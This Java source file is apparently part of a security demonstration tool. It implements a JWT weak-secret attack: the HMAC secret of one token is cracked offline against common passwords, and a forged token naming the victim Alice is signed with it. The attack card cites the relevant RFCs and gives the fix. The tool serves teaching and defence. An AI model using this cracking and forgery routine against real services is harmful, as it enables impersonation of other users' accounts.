package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.attack.crack.Cracked;
import dev.gatehouse.desktop.attack.crack.Cracker;
import dev.gatehouse.desktop.attack.crack.SignedToken;
import dev.gatehouse.desktop.attack.crack.WordList;
import dev.gatehouse.desktop.credential.CompactToken;
import dev.gatehouse.desktop.credential.CredentialException;
import dev.gatehouse.server.jose.LegacyKeys;
import java.nio.charset.StandardCharsets;
import java.util.List;

/** Cracks the secret behind a token, then signs with it. */
@AutoService(Attack.class)
public final class JwtWeakSecret extends JwtAttack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "jwt-weak-secret",
        "A secret that is a common word",
        AttackGroup.JWT,
        "The attacker tries the 30,000 most common passwords as the secret of one old token of their own, at home, and"
            + " signs a token about Alice with the one that fits.",
        "One token that is signed with a secret, their own or anybody's.",
        "A person made the secret up. The token itself tells whether a guess is right, so no server is asked and none can"
            + " count.",
        "weak-hmac-secret",
        List.of("RFC 8725 §3.5", "RFC 7518 §3.2", "CWE-521"),
        "Make the secret at random and as long as the hash, 32 bytes for HS256, and refuse shorter ones (RFC 7518 §3.2).");
  }

  @Override
  String token(Target target) throws CredentialException, InterruptedException {
    String own =
        target.makes(
            "Take an old token of Dave's. It is signed with a secret.",
            "token of Dave's",
            target.loot().ownTokenByOldSecret(LegacyKeys.GUESSABLE));
    Cracked cracked =
        new Cracker()
            .crack(
                WordList.commonPasswords(),
                SignedToken.in(own).orElseThrow(() -> new CredentialException("No secret.")),
                target::progress);
    String secret =
        target.makes(
            "Sign its first two parts with one common password after the other, until the signature is the same.",
            "secret",
            cracked.word().orElseThrow(() -> new CredentialException("No word of the list.")));
    target.makes("That took no time, and no request.", "tried", cracked.progress().words());
    return target.makes(
        "Set sub to alice, and sign with that secret.",
        "forged token",
        new SharedSecret(secret.getBytes(StandardCharsets.UTF_8))
            .sign(CompactToken.parse(own).withClaim("sub", Loot.VICTIM))
            .text());
  }
}
